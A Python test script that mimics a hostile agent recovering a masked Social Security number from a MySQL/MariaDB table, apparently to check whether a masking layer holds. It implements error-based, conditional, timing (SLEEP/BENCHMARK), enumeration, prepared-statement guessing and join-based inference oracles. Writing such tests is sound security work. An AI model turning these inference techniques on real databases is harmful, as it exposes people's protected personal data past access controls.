"""Test-only SSN extractor for MySQL/MariaDB: tries to recover customer 1's
full SSN through one oracle class, the way a hostile agent would, over one
PyMySQL connection (text protocol; `across` also uses mysql-connector's
prepared statements, the binary protocol), and prints one JSON line:
{"class": ..., "recovered": "483-27-9150" or with "?" for digits not learned,
 "statements": n, "refused": n, "errors": {code: n}}

Usage: python3 mysql_ssn_extractor.py HOST CLASS [ARG]  (PORT and PW in the
environment; user `app`, database `shop`)
CLASS: error | conditional | timing | enumeration | across | join
- across: ARG is a JSON list of candidate SSNs tried one per statement, in
  order, alternately as a text literal and as a bound parameter.
Every statement is bounded: at most a few hundred per class.
"""

import json
import os
import sys
import time

import mysql.connector
import pymysql

HOST, CLASS = sys.argv[1], sys.argv[2]
ARG = sys.argv[3] if len(sys.argv) > 3 else None
PORT, PW = int(os.environ["PORT"]), os.environ["PW"]
POSITIONS = [1, 2, 3, 5, 6, 8, 9, 10, 11]  # the digits of NNN-NN-NNNN
stats = {"statements": 0, "refused": 0, "errors": {}}


def connect():
    return pymysql.connect(host=HOST, port=PORT, user="app", password=PW,
                           database="shop", autocommit=True)


conn = connect()


def note_error(code):
    stats["errors"][str(code)] = stats["errors"].get(str(code), 0) + 1
    if code == 1142:
        stats["refused"] += 1


def run(sql, params=None):
    """(rows, error code, seconds); rows is None on error."""
    global conn
    stats["statements"] += 1
    t0 = time.monotonic()
    try:
        if not conn.open:
            conn = connect()
        with conn.cursor() as cur:
            cur.execute(sql, params)
            rows = cur.fetchall() if cur.description else []
        return rows, None, time.monotonic() - t0
    except pymysql.MySQLError as e:
        code = e.args[0] if e.args and isinstance(e.args[0], int) else -1
        note_error(code)
        return None, code, time.monotonic() - t0


def per_digit(test):
    """Each digit by asking test(position, digit) -> True/False/None."""
    out = list("???-??-????")
    for p in POSITIONS:
        for d in "0123456789":
            answer = test(p, d)
            if answer is None:
                break  # no answer: this oracle says nothing
            if answer:
                out[p - 1] = d
                break
    return "".join(out)


def agree(a, b):
    return "".join(x if x == y or y == "?" else (y if x == "?" else "!")
                   for x, y in zip(a, b))


# MariaDB answers a division by zero with NULL outside strict writes, so
# the error oracle uses errors that fire in a SELECT whatever the mode:
# BIGINT UNSIGNED overflow (1690) and a subquery of two rows (1242).
def error_oracle():
    def overflow(p, d):
        rows, code, _ = run(
            f"SELECT 1 + ~0 * (SUBSTRING(ssn, {p}, 1) = '{d}') "
            "FROM customers WHERE id = 1")
        if rows is not None:
            return False
        return True if code == 1690 else None

    def subquery(p, d):
        rows, code, _ = run(
            f"SELECT IF(SUBSTRING(ssn, {p}, 1) = '{d}', "
            "(SELECT 1 UNION SELECT 2), 0) FROM customers WHERE id = 1")
        if rows is not None:
            return False
        return True if code == 1242 else None

    return agree(per_digit(overflow), per_digit(subquery))


def conditional_oracle():
    """IF/CASE over a piece of the value answers in an unprotected form."""
    def if_(p, d):
        rows, _, _ = run(
            f"SELECT IF(SUBSTRING(ssn, {p}, 1) = '{d}', 'yes', 'no') "
            "FROM customers WHERE id = 1")
        if not rows:
            return None
        if rows[0][0] not in ("yes", "no"):
            return None  # masked: no answer
        return rows[0][0] == "yes"

    def case(p, d):
        rows, _, _ = run(
            f"SELECT CASE WHEN SUBSTRING(ssn, {p}, 1) = '{d}' THEN id ELSE id + 1 END "
            "FROM customers WHERE id = 1")
        if not rows or rows[0][0] is None:
            return None
        return str(rows[0][0]) == "1"

    return agree(per_digit(if_), per_digit(case))


def timing_oracle():
    # BENCHMARK's rounds for about 0.3 s here, from a statement that reads
    # nothing protected.
    rounds = 20000
    while rounds < 50_000_000:
        rows, _, secs = run(f"SELECT BENCHMARK({rounds}, SHA1('x'))")
        if rows is None:
            break
        if secs > 0.3:
            break
        rounds *= 2

    def sleep(p, d):
        rows, _, secs = run(
            f"SELECT IF(SUBSTRING(ssn, {p}, 1) = '{d}', SLEEP(0.3), 0) "
            "FROM customers WHERE id = 1")
        if rows is None:
            return None
        return secs > 0.2

    def bench(p, d):
        rows, _, secs = run(
            f"SELECT BENCHMARK({rounds} * (SUBSTRING(ssn, {p}, 1) = '{d}'), SHA1('x')) "
            "FROM customers WHERE id = 1")
        if rows is None:
            return None
        return secs > 0.2

    return agree(per_digit(sleep), per_digit(bench))


def candidates_for(last4):
    """Every SSN ending in the visible last four, in order."""
    for n in range(100000):
        s = f"{n:05d}"
        yield f"{s[:3]}-{s[3:]}-{last4}"


def last4():
    rows, _, _ = run("SELECT ssn FROM customers WHERE id = 1")
    if not rows or not rows[0][0] or not rows[0][0][-4:].isdigit():
        return None
    return rows[0][0][-4:]


def enumeration_oracle():
    """IN lists of 2,000 guesses sharing the visible last four, then IN
    lists over halves of the chunk that matched."""
    l4 = last4()
    if l4 is None:
        return "???-??-????"
    all_ = list(candidates_for(l4))

    def any_of(part):
        lits = ", ".join(f"'{c}'" for c in part)
        rows, _, _ = run(f"SELECT id FROM customers WHERE ssn IN ({lits}) AND id = 1")
        return None if rows is None else bool(rows)

    chunk = None
    for i in range(0, len(all_), 2000):
        part = all_[i:i + 2000]
        hit = any_of(part)
        if hit is None:
            return "???-??-????"
        if hit:
            chunk = part
            break
    if chunk is None:
        return "???-??-????"
    while len(chunk) > 1:
        half = chunk[: len(chunk) // 2]
        hit = any_of(half)
        if hit is None:
            return "???-??-????"
        chunk = half if hit else chunk[len(chunk) // 2:]
    return chunk[0]


def across_oracle():
    """One guess per statement, as a lookup by a value the agent has:
    alternately a literal (text protocol) and a bound parameter
    (COM_STMT_EXECUTE)."""
    prepared = mysql.connector.connect(host=HOST, port=PORT, user="app", password=PW,
                                       database="shop", ssl_disabled=True, use_pure=True,
                                       autocommit=True)
    pcur = prepared.cursor(prepared=True)
    for i, c in enumerate(json.loads(ARG)):
        if i % 2 == 0:
            stats["statements"] += 1
            try:
                pcur.execute("SELECT id FROM customers WHERE ssn = %s AND id = 1", (c,))
                rows = pcur.fetchall()
            except mysql.connector.Error as e:
                note_error(e.errno)
                rows = None
        else:
            rows, _, _ = run(f"SELECT id FROM customers WHERE ssn = '{c}' AND id = 1")
        if rows:
            return c
    return "???-??-????"


def join_oracle():
    """The agent writes its guesses into tables of its own and joins."""
    l4 = last4() or "0000"
    found = "???-??-????"
    for table, create in [
        ("guesses_tmp", "CREATE TEMPORARY TABLE guesses_tmp (g varchar(16))"),
        ("guesses", "CREATE TABLE IF NOT EXISTS guesses (g varchar(16))"),
    ]:
        run(create)
        run(f"INSERT INTO {table} SELECT CONCAT(SUBSTRING(LPAD(seq, 5, '0'), 1, 3), '-', "
            f"SUBSTRING(LPAD(seq, 5, '0'), 4, 2), '-', %s) FROM seq_48000_to_48999", (l4,))
        for sql in [
            f"SELECT g FROM {table} JOIN customers c ON c.ssn = g WHERE c.id = 1",
            f"SELECT g FROM {table} WHERE g IN (SELECT ssn FROM customers WHERE id = 1)",
            f"SELECT g FROM {table} WHERE EXISTS "
            f"(SELECT 1 FROM customers c WHERE c.id = 1 AND c.ssn = {table}.g)",
        ]:
            rows, _, _ = run(sql)
            if rows:
                found = rows[0][0]
    run("DROP TABLE IF EXISTS guesses")
    return found


ORACLES = {
    "error": error_oracle,
    "conditional": conditional_oracle,
    "timing": timing_oracle,
    "enumeration": enumeration_oracle,
    "across": across_oracle,
    "join": join_oracle,
}

recovered = ORACLES[CLASS]()
print(json.dumps({"class": CLASS, "recovered": recovered, **stats}), flush=True)
